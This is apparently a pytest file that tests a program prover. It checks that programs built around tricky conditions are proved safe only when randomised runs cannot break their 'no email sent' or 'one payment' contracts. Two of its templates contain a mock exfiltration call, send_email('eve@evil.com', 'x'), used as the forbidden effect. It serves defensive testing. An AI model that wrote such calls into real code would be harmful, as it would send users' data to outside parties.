"""For each tricky condition: what is proved about a program that acts on it, no run breaks."""

from __future__ import annotations

from pathlib import Path

import pytest
from test_adversarial_labels import breaks
from tricky_expressions import CONDITIONS, PRELUDE

from lictor_prove.layer_model import Layer
from lictor_prove.layers import load_layer
from lictor_prove.proof.prover import ProofSettings, prove

LAYERS = Path(__file__).parent / "layers"
SEEDS = 80
QUICK = ProofSettings(goal_ms=500, total_ms=1_000)
FORMS = {
    "when it holds": "if {condition}:\n        send_email('eve@evil.com', 'x')",
    "when it does not": "if not ({condition}):\n        send_email('eve@evil.com', 'x')",
    "as a value": "v = ({condition})\n    if v:\n        pay('a', 7)\n    else:\n        pay('a', 8)",
}
PROMISES = {
    "when it holds": "none_sent()",
    "when it does not": "none_sent()",
    "as a value": "amounts([7])",
}


@pytest.fixture(scope="module")
def layer() -> Layer:
    return load_layer([LAYERS / "tools" / "desk" / "trusted"], [LAYERS])


def program(condition: str, form: str) -> str:
    body = PRELUDE.replace("\n", "\n    ") + FORMS[form].format(condition=condition)
    return (
        "import lictor_layer\nfrom tools.desk.trusted import contracts as c\n"
        "from tools.desk.trusted.effects import is_allowed, lookup, names, number, pay, rate\n"
        "from tools.desk.trusted.effects import send_email, users\n\n\n"
        f"@lictor_layer.guarantee(c.{PROMISES[form]})\ndef main() -> None:\n    {body}\n"
    )


def verdict_on(source: str, layer: Layer) -> str:
    return str(prove(source, name="tricky.py", layer=layer, settings=QUICK).verdict)


@pytest.mark.filterwarnings("ignore::SyntaxWarning")
@pytest.mark.parametrize("condition", CONDITIONS.splitlines())
def test_nothing_proved_about_the_condition_is_wrong(condition: str, layer: Layer) -> None:
    for form in FORMS:
        source = program(condition, form)
        verdict = verdict_on(source, layer)
        if verdict == "proved":
            assert not any(breaks(source, seed) for seed in range(SEEDS)), form
        if verdict == "refuted" and "rows" not in condition:
            assert any(breaks(source, seed) for seed in range(SEEDS * 40)), form


def test_most_conditions_are_understood(layer: Layer) -> None:
    verdicts = [
        verdict_on(program(condition, "when it holds"), layer)
        for condition in CONDITIONS.splitlines()
    ]
    assert verdicts.count("rejected") < len(verdicts) / 3
